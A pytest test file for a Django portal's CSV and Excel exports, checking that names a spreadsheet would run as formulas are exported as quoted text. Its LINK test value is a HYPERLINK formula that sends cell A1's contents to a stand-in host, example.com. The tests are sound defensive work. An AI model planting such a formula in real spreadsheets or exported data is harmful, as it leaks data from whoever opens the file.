"""The CSV and Excel files the security officers download: a name that a spreadsheet would
read as a formula goes out as text (OWASP, CSV injection), and numbers and dates stay
numbers and dates."""

import csv
import io
import zipfile
from datetime import date, datetime

import pytest
from django.test import Client
from django.utils import timezone
from openpyxl import load_workbook

from portal.exports import safe_cell
from portal.models import User
from training.models import Completion, TrainingModule

from .conftest import PASSWORD, login_verified, sent_report

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("https://example.com/?d="&A1;"Klicka här")'
DANGEROUS = [LINK, "+46 70 111", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", DANGEROUS)
def test_text_that_a_spreadsheet_would_run_gets_a_quote_in_front(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Anna Andersson", "", "2026-03-14", "a=b", -3, 2.5, None])
def test_other_text_and_numbers_are_left_as_they_are(value):
    assert safe_cell(value) == value


def test_dates_are_left_as_dates():
    assert safe_cell(date(2026, 3, 14)) == date(2026, 3, 14)


def csv_rows(response):
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


def xlsx(response):
    """The first sheet, and its XML, in which a formula would be an <f> element."""
    content = io.BytesIO(response.content)
    with zipfile.ZipFile(content) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    return load_workbook(content).active, xml


# The incidents the officers export from the list in the admin


@pytest.fixture
def handled_report(official, officer):
    officer.full_name = LINK
    officer.save(update_fields=["full_name"])
    return sent_report(official, handler=officer)


def export(client, officer, incident, action):
    login_verified(client, officer)
    data = {"action": action, "_selected_action": [incident.pk]}
    return client.post("/admin/incidents/incident/", data)


def test_a_handler_named_as_a_formula_is_text_in_the_incidents_csv(client, officer, handled_report):
    rows = csv_rows(export(client, officer, handled_report, "export_csv"))
    handler = rows[0].index("Handläggare")
    assert rows[1][handler] == "'" + LINK
    assert rows[1][0] == handled_report.reference


def test_a_handler_named_as_a_formula_is_text_in_the_incidents_xlsx(
    client, officer, handled_report
):
    sheet, xml = xlsx(export(client, officer, handled_report, "export_xlsx"))
    header = [cell.value for cell in sheet[1]]
    cell = sheet.cell(row=2, column=header.index("Handläggare") + 1)
    assert cell.value == LINK and cell.data_type == "s"
    assert cell.quotePrefix  # and Excel keeps it text when the officer edits the cell
    assert "<f>" not in xml


# Who has done which training


@pytest.fixture
def formula_official(db):
    user = User.objects.create_user("anna@example.se", PASSWORD, full_name=LINK, party="-Partiet")
    User.objects.filter(pk=user.pk).update(
        date_joined=timezone.make_aware(datetime(2026, 1, 10, 12))
    )
    introduction = TrainingModule.objects.get(slug="introduktion")
    Completion.objects.create(
        user=user,
        module=introduction,
        completed_at=timezone.make_aware(datetime(2026, 2, 1, 9)),
    )
    return user


OVERVIEW = "/admin/training/trainingmodule/oversikt/"


def test_an_official_named_as_a_formula_is_text_in_the_training_csv(officer, formula_official):
    rows = csv_rows(login_verified(Client(), officer).get(OVERVIEW + "?format=csv"))
    assert rows[1][:5] == ["'" + LINK, "anna@example.se", "'-Partiet", "2026-01-10", "2026-02-01"]


def test_an_official_named_as_a_formula_is_text_in_the_training_xlsx(officer, formula_official):
    sheet, xml = xlsx(login_verified(Client(), officer).get(OVERVIEW + "?format=xlsx"))
    name, email, party, joined, introduction = sheet[2][:5]
    assert name.value == LINK and name.data_type == "s"
    assert party.value == "-Partiet" and party.data_type == "s"
    assert joined.is_date and joined.value.date() == date(2026, 1, 10)
    assert introduction.is_date and introduction.value.date() == date(2026, 2, 1)
    assert "<f>" not in xml
